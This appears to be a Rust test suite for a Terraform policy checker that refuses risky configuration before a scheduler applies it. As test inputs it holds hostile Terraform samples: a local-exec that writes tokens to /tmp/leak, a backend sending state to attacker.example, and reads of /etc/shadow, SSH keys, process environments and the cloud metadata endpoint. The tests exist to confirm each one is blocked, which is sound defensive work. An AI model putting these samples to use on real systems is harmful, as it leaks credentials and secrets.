use super::*;
use crate::config::FileContent;

fn file(path: &str, text: &str) -> RepoFile {
    RepoFile {
        path: path.to_owned(),
        content: FileContent::Bytes(text.as_bytes().to_vec()),
    }
}

fn render(diagnostics: &[Diagnostic]) -> String {
    diagnostics.iter().map(|d| format!("{d}\n")).collect()
}

/// The repository's own roots and modules, as the scheduler runs them.
fn own_files() -> Vec<RepoFile> {
    vec![
        file(
            "infra/gtm/main.tf",
            include_str!("../../../../infra/gtm/main.tf"),
        ),
        file(
            "infra/node-pool/main.tf",
            include_str!("../../../../infra/node-pool/main.tf"),
        ),
        file(
            "infra/node-pool/variables.tf",
            include_str!("../../../../infra/node-pool/variables.tf"),
        ),
        file(
            "infra/node-pool/jp.tfvars",
            include_str!("../../../../infra/node-pool/jp.tfvars"),
        ),
        file(
            "modules/gtm/main.tf",
            include_str!("../../../../modules/gtm/main.tf"),
        ),
        file(
            "modules/gtm/outputs.tf",
            include_str!("../../../../modules/gtm/outputs.tf"),
        ),
        file(
            "modules/gtm/variables.tf",
            include_str!("../../../../modules/gtm/variables.tf"),
        ),
        file(
            "modules/gtm/versions.tf",
            include_str!("../../../../modules/gtm/versions.tf"),
        ),
        file(
            "modules/region/main.tf",
            include_str!("../../../../modules/region/main.tf"),
        ),
        file(
            "modules/region/outputs.tf",
            include_str!("../../../../modules/region/outputs.tf"),
        ),
        file(
            "modules/region/variables.tf",
            include_str!("../../../../modules/region/variables.tf"),
        ),
        file(
            "modules/region/versions.tf",
            include_str!("../../../../modules/region/versions.tf"),
        ),
    ]
}

#[test]
fn the_repositorys_own_roots_and_modules_pass() {
    let found = check(&own_files());
    assert!(!crate::diag::has_errors(&found), "{}", render(&found));
    expect_test::expect![""].assert_eq(&render(&found));
}

#[test]
fn the_issue_20_exploit_is_refused_at_its_provisioner() {
    let mut files = own_files();
    files.push(file(
        "infra/gtm/x.tf",
        r#"resource "terraform_data" "x" {
  input = "harmless-looking"

  provisioner "local-exec" {
    command = "echo \"admin=$NEUTRAL_TOKEN join=$NEUTRAL_JOIN_TOKEN\" > /tmp/leak"
  }
}
"#,
    ));
    expect_test::expect![[r#"
        infra/gtm/x.tf:4:3: error: [provisioner] provisioner `local-exec` in resource `terraform_data`: provisioners run commands on the control plane's machine; not allowed
    "#]]
    .assert_eq(&render(&check(&files)));
}

#[test]
fn every_way_to_run_code_or_read_the_machine_is_refused_all_at_once() {
    let hostile = r#"terraform {
  required_providers {
    neutral = { source = "neutral/neutral" }
    shell   = { source = "scottwinkler/shell" }
    random  = "~> 3.0"
  }
  backend "http" {
    address = "https://attacker.example/state"
  }
}

provider "aws" {
  region = "us-east-1"
}

resource "null_resource" "a" {
  provisioner "remote-exec" {
    inline = ["id"]
  }
}

resource "terraform_data" "b" {
  provisioner "file" {
    source      = "/etc/shadow"
    destination = "/tmp/x"
  }
  dynamic "provisioner" {
    for_each = []
    content {}
  }
}

data "external" "c" {
  program = ["sh", "-c", "env"]
}

data "terraform_remote_state" "d" {
  backend = "local"
  config  = { path = "/var/lib/neutral/terraform.tfstate" }
}

resource "shell_script" "e" {
  provider = shell.alt
}

check "f" {
  data "http" "g" {
    url = "http://169.254.169.254/"
  }
  assert {
    condition     = true
    error_message = "x"
  }
}

module "remote" {
  source = "git::https://example.com/evil.git"
}

module "escape" {
  source = "../../../outside"
}

module "computed" {
  source = var.where
}

locals {
  environ = file("/proc/1/environ")
  home    = file("~/.ssh/id_ed25519")
  up      = templatefile("${path.module}/../../../etc/passwd", {})
  fine    = file("${path.module}/../../platform-config/gtm/app.yaml")
  glob    = fileset("${path.module}/../../platform-config", "*.yaml")
  guessed = [for i in range(1, 100) : try(file("/proc/${i}/environ"), "")]
  dynamic = file(var.somewhere)
  parsed  = provider::shell::run("id")
}
"#;
    let files = vec![
        file("infra/gtm/main.tf", hostile),
        file("infra/gtm/extra.tf.json", "{}"),
        RepoFile {
            path: "modules/gtm/secret.tf".to_owned(),
            content: FileContent::Symlink("/etc/neutral/admin.token".to_owned()),
        },
        file("infra/gtm/broken.tf", "resource \"x\" {\n  = 1\n"),
        file(
            "infra/gtm/deep.tf",
            &format!("locals {{ x = {}1{} }}\n", "[".repeat(100), "]".repeat(100)),
        ),
        file("infra/gtm/README.md", "not Terraform\n"),
    ];
    expect_test::expect![[r#"
        infra/gtm/broken.tf:2:3: error: [syntax] HCL syntax error: invalid block body; expected `}`, newline or identifier; not judged
        infra/gtm/deep.tf:1:1: error: [syntax] nested deeper than 64 levels; not judged
        infra/gtm/extra.tf.json:1:1: error: [json-config] Terraform JSON configuration is not allowed; write it in HCL (`.tf`) so the policy can judge it
        infra/gtm/main.tf:4:15: error: [provider] provider `shell` (registry.terraform.io/scottwinkler/shell) is not allowed; allowed: registry.terraform.io/neutral/neutral, terraform.io/builtin/terraform
        infra/gtm/main.tf:5:15: error: [provider] provider `random` (registry.terraform.io/hashicorp/random) is not allowed; allowed: registry.terraform.io/neutral/neutral, terraform.io/builtin/terraform
        infra/gtm/main.tf:7:3: error: [backend] a `backend` block is not allowed: the scheduler keeps the state
        infra/gtm/main.tf:12:1: error: [provider] provider block `aws` uses provider `aws` (registry.terraform.io/hashicorp/aws), which is not allowed; allowed: registry.terraform.io/neutral/neutral, terraform.io/builtin/terraform
        infra/gtm/main.tf:16:1: error: [provider] resource `null_resource` uses provider `null` (registry.terraform.io/hashicorp/null), which is not allowed; allowed: registry.terraform.io/neutral/neutral, terraform.io/builtin/terraform
        infra/gtm/main.tf:17:3: error: [provisioner] provisioner `remote-exec` in resource `null_resource`: provisioners run commands on the control plane's machine; not allowed
        infra/gtm/main.tf:23:3: error: [provisioner] provisioner `file` in resource `terraform_data`: provisioners run commands on the control plane's machine; not allowed
        infra/gtm/main.tf:27:3: error: [provisioner] provisioner `dynamic` in resource `terraform_data`: provisioners run commands on the control plane's machine; not allowed
        infra/gtm/main.tf:33:1: error: [external-data] data source `external` runs a program on the control plane's machine; never allowed
        infra/gtm/main.tf:33:1: error: [provider] data `external` uses provider `external` (registry.terraform.io/hashicorp/external), which is not allowed; allowed: registry.terraform.io/neutral/neutral, terraform.io/builtin/terraform
        infra/gtm/main.tf:37:1: error: [remote-state] data source `terraform_remote_state` reads any state file or backend; not allowed
        infra/gtm/main.tf:42:1: error: [provider] resource `shell_script` uses provider `shell` (registry.terraform.io/scottwinkler/shell), which is not allowed; allowed: registry.terraform.io/neutral/neutral, terraform.io/builtin/terraform
        infra/gtm/main.tf:47:3: error: [provider] data `http` uses provider `http` (registry.terraform.io/hashicorp/http), which is not allowed; allowed: registry.terraform.io/neutral/neutral, terraform.io/builtin/terraform
        infra/gtm/main.tf:57:12: error: [module-source] module `remote` comes from `git::https://example.com/evil.git`, outside the repository; allow its prefix in .neutral/terraform-policy.yaml (`module_sources`)
        infra/gtm/main.tf:61:12: error: [module-source] module `escape` comes from `../../../outside`, outside the repository's infra/ and modules/
        infra/gtm/main.tf:65:12: error: [module-source] the source of module `computed` must be a literal string
        infra/gtm/main.tf:69:13: error: [file-path] `file` reads `/proc/1/environ`, outside the repository; read files of the repository only (`${path.module}/…`)
        infra/gtm/main.tf:70:13: error: [file-path] `file` reads `~/.ssh/id_ed25519`, outside the repository; read files of the repository only (`${path.module}/…`)
        infra/gtm/main.tf:71:13: error: [file-path] `templatefile` reads `${path.module}/../../../etc/passwd`, outside the repository; read files of the repository only (`${path.module}/…`)
        infra/gtm/main.tf:74:43: error: [file-path] `file` reads `/proc/`, outside the repository; read files of the repository only (`${path.module}/…`)
        infra/gtm/main.tf:76:13: error: [provider] function `run` uses provider `shell` (registry.terraform.io/scottwinkler/shell), which is not allowed; allowed: registry.terraform.io/neutral/neutral, terraform.io/builtin/terraform
        modules/gtm/secret.tf:1:1: error: [symlink] symbolic link to `/etc/neutral/admin.token`: Terraform's folders may hold only regular files
    "#]].assert_eq(&render(&check(&files)));
}

#[test]
fn the_policy_file_allows_providers_and_module_prefixes_and_is_validated() {
    let tf = r#"terraform {
  required_providers {
    random = { source = "hashicorp/random" }
  }
}

resource "random_id" "a" {
  byte_length = 4
}

module "shared" {
  source = "git::https://git.example.com/platform/dns.git?ref=v1"
}
"#;
    let refused = check(&[file("infra/gtm/main.tf", tf)]);
    expect_test::expect![[r#"
        infra/gtm/main.tf:3:14: error: [provider] provider `random` (registry.terraform.io/hashicorp/random) is not allowed; allowed: registry.terraform.io/neutral/neutral, terraform.io/builtin/terraform
        infra/gtm/main.tf:7:1: error: [provider] resource `random_id` uses provider `random` (registry.terraform.io/hashicorp/random), which is not allowed; allowed: registry.terraform.io/neutral/neutral, terraform.io/builtin/terraform
        infra/gtm/main.tf:12:12: error: [module-source] module `shared` comes from `git::https://git.example.com/platform/dns.git?ref=v1`, outside the repository; allow its prefix in .neutral/terraform-policy.yaml (`module_sources`)
    "#]].assert_eq(&render(&refused));

    let policy = "providers:\n  - hashicorp/random\nmodule_sources:\n  - \"git::https://git.example.com/platform/\"\n";
    let allowed = check(&[file("infra/gtm/main.tf", tf), file(POLICY_FILE, policy)]);
    assert_eq!(render(&allowed), "");

    let bad_policy = "providers:\n  - hashicorp/external\n  - not a source\n  - 7\n  - Hashicorp/Random\nmodule_sources: [\"\", \"../up\"]\nallow_everything: true\n";
    expect_test::expect![[r#"
        .neutral/terraform-policy.yaml:2:5: error: [policy] provider `hashicorp/external` runs programs on the control plane's machine; it cannot be allowed
        .neutral/terraform-policy.yaml:3:5: error: [policy] `not a source` is not a provider source address (`namespace/name` or `host/namespace/name`)
        .neutral/terraform-policy.yaml:4:5: error: [policy] `providers` entries must be strings, found the integer `7`
        .neutral/terraform-policy.yaml:6:18: error: [policy] an empty prefix would allow every module source
        .neutral/terraform-policy.yaml:6:22: error: [policy] `../up` is a local path: local modules must stay below infra/ or modules/
        .neutral/terraform-policy.yaml:7:1: error: [policy] unknown field `allow_everything` in the Terraform policy, expected one of: providers, module_sources
        infra/gtm/main.tf:12:12: error: [module-source] module `shared` comes from `git::https://git.example.com/platform/dns.git?ref=v1`, outside the repository; allow its prefix in .neutral/terraform-policy.yaml (`module_sources`)
    "#]].assert_eq(&render(&check(&[
        file("infra/gtm/main.tf", tf),
        file(POLICY_FILE, bad_policy),
    ])));
    expect_test::expect![[r#"
        .neutral/terraform-policy.yaml:1:1: error: [policy] expected a Terraform policy (a YAML mapping) at the top level, found a sequence
    "#]].assert_eq(&render(&check(&[file(POLICY_FILE, "[1, 2]\n")])));
}

#[test]
fn provider_aliases_and_meta_arguments_resolve_to_their_sources() {
    // `neutral` under another local name is still neutral; `terraform_data`
    // needs no declaration; an undeclared prefix implies hashicorp/<name>.
    let tf = r#"terraform {
  required_providers {
    gslb = { source = "neutral/neutral" }
  }
}

provider "gslb" {
  alias = "other"
}

resource "neutral_gtm_record" "a" {
  provider = gslb.other
}

resource "terraform_data" "b" {
  input = 1
}

resource "random_pet" "c" {
  provider = gslb
}
"#;
    expect_test::expect![[r#""#]].assert_eq(&render(&check(&[file("modules/x/main.tf", tf)])));
}

#[test]
fn only_terraform_folders_and_the_policy_file_are_inputs() {
    assert!(is_policy_input("infra/gtm/main.tf"));
    assert!(is_policy_input("modules/region/variables.tf"));
    assert!(is_policy_input(POLICY_FILE));
    assert!(!is_policy_input("platform-config/gtm/app.yaml"));
    assert!(!is_policy_input("examples/minimal/main.tf"));
    assert_eq!(
        normalize_source("Neutral/Neutral").as_deref(),
        Ok(NEUTRAL_PROVIDER)
    );
}
